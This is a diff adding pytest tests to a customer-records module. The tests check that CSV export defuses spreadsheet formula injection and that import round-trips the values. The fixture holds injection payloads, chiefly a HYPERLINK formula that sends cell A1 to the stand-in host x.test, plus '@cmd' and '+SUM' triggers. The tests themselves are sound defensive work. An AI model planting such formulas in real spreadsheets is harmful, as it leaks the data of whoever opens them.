@@ -14,6 +14,8 @@ from sqlalchemy.orm import Session
 from engine.customers import (
     CUSTOMER_FIELDS,
     create_customer,
+    csv_cell_value,
+    csv_safe_cell,
     customer_fields,
     define_custom_field,
     export_customers,
@@ -550,3 +552,67 @@ class TestExport:
 
         assert report.created == 2
         assert after == before
+
+    def test_formula_cells_are_quoted_and_come_back_whole(
+        self, service: Service, people: dict[str, int], tmp_path: Path
+    ) -> None:
+        with service.transaction() as session:
+            define_custom_field(session, "nota", "Nota", "texto")
+            define_custom_field(session, "saldo", "Saldo", "número")
+            create_customer(
+                session,
+                {
+                    "code": "EVIL",
+                    "name": '=HYPERLINK("http://x.test/?d="&A1;"clique")',
+                    "segment": "+SUM(1;2)",
+                    "area": "-2+3",
+                    "contact_name": "@cmd",
+                    "stage": "'=já com aspa",
+                    "nps": -20,
+                    "nota": "-20",
+                    "saldo": "-1.234,5",
+                },
+            )
+            before = card(session, "EVIL")
+            export_customers(session, tmp_path / "export.csv")
+
+        lines = (tmp_path / "export.csv").read_text(encoding="utf-8-sig").splitlines()
+        assert lines[1] == (
+            '"\'=HYPERLINK(""http://x.test/?d=""&A1;""clique"")";EVIL;"\'+SUM(1;2)";\'-2+3;;'
+            "'@cmd;;''=já com aspa;;-20;;;-20;-1234,5"
+        )
+
+        with service.transaction() as session:
+            session.delete(get_customer(session, "EVIL"))
+        with service.transaction() as session:
+            assert import_customers(session, tmp_path / "export.csv").created == 1
+            after = card(session, "EVIL")
+        assert after == before
+        assert (after["name"], after["nps"], after["custom"]) == (
+            '=HYPERLINK("http://x.test/?d="&A1;"clique")',
+            -20,
+            {"nota": "-20", "saldo": -1234.5},
+        )
+
+    @pytest.mark.parametrize(
+        ("value", "written"),
+        [
+            ("=1+1", "'=1+1"),
+            ("+55 11 9999", "'+55 11 9999"),
+            ("-", "'-"),
+            ("@SUM(A1)", "'@SUM(A1)"),
+            ("\t=1", "'\t=1"),
+            ("\r=1", "'\r=1"),
+            ("'=1", "''=1"),
+            ("'texto", "'texto"),
+            ("-20", "-20"),
+            ("+5", "+5"),
+            ("-1.234,50", "-1.234,50"),
+            ("Padaria", "Padaria"),
+            ("a=1", "a=1"),
+            ("", ""),
+        ],
+    )
+    def test_cell_quoting(self, value: str, written: str) -> None:
+        assert csv_safe_cell(value) == written
+        assert csv_cell_value(written) == value
